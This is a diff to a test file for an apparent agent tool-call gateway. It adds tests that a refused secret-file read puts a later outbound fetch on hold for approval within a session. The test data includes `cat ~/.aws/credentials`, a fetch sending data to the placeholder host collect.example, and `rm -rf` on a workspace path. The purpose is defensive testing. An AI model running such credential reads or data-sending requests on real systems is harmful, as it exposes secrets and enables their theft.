@@ -262,8 +262,9 @@ def test_bash_arguments_only_touch_the_command_of_a_shell_call() -> None:
 
 def test_session_refused_looks_only_at_calls_that_did_not_run() -> None:
     session = {"now": 100.0, "calls": [
-        {"at": 90.0, "ran": False, "classes": ["credential_read"]},
-        {"at": 95.0, "ran": True, "classes": ["env_read"]},
+        {"at": 90.0, "ran": False, "decision": "deny", "classes": ["credential_read"]},
+        {"at": 95.0, "ran": True, "decision": "allow", "classes": ["env_read"]},
+        {"at": 96.0, "ran": False, "decision": "allow", "classes": ["env_read"]},  # a dry run
     ]}
     assert session_refused(session, "credential_read", "1m") and not session_seen(session, "credential_read", "1m")
     assert not session_refused(session, "env_read", "1m") and session_seen(session, "env_read", "1m")
@@ -277,8 +278,8 @@ def _policy(tmp: Path) -> Path:
     """The shipped shell rules; alice has no fs_roots, carol has /srv/ws."""
     carol = hashlib.sha256(b"carol-key").hexdigest()
     body = PROFILE_HEAD + f"  - {{id: carol, tier: reader, claims: {{fs_roots: [/srv/ws]}}, api_key_sha256: {carol}}}\n"
-    body += "tiers:\n  - name: reader\n    grants: [{tools: [\"run_command\", \"Bash\"]}]\n  - name: writer\n    inherits: reader\n"
-    body += f"rule_sets: [{ROOT / 'rules' / 'shell.yaml'}]\n"
+    body += "tiers:\n  - name: reader\n    grants: [{tools: [\"run_command\", \"Bash\", \"fetch\"]}]\n  - name: writer\n    inherits: reader\n"
+    body += f"rule_sets: [{ROOT / 'rules' / 'shell.yaml'}, {ROOT / 'rules' / 'sequences.yaml'}]\n"
     path = tmp / "policy.yaml"
     path.write_text(body)
     return path
@@ -308,5 +309,25 @@ async def test_shell_paths_meet_the_workspace_rule_before_the_backend(tmp_path: 
             ("run_command", {"command": "rm -rf /srv/ws/build"}),
             ("run_command", {"command": "echo \u5b8c\u6210\uff08100%\uff09 > status.txt"}),  # NFKC, but no syntax made
         ]
+    finally:
+        await gateway.aclose()
+
+
+async def test_a_refused_secret_read_holds_the_next_send_of_the_session(tmp_path: Path) -> None:
+    recorder = Recorder()
+    backend = recorder.backend({"Bash": lambda command="": text_result("ran"), "fetch": lambda url="": text_result("page")})
+    gateway = await open_gateway(tmp_path, _policy(tmp_path), [backend])
+    try:
+        send = {"url": "https://collect.example/in?d=x"}
+        dry = await gateway.call("Bash", {"command": "ls -la"}, api_key="alice-key", session_id="d", dry_run=True)
+        assert dry.status is Status.DRY_RUN
+        assert (await gateway.call("fetch", send, api_key="alice-key", session_id="d")).status is Status.OK
+        read = await gateway.call("Bash", {"command": "cat ~/.aws/credentials"}, api_key="alice-key", session_id="s")
+        assert read.status is Status.BLOCKED and read.decision.rule_ids == ("shell-no-secret-file-read",)
+        held = await gateway.call("fetch", send, api_key="alice-key", session_id="s")
+        assert held.status is Status.PENDING_APPROVAL
+        assert held.decision.rule_ids == ("seq-hold-send-after-refused-secret-read",)
+        assert (await gateway.call("fetch", send, api_key="alice-key", session_id="other")).status is Status.OK
+        assert [name for name, _ in recorder.calls] == ["fetch", "fetch"]
     finally:
         await gateway.aclose()
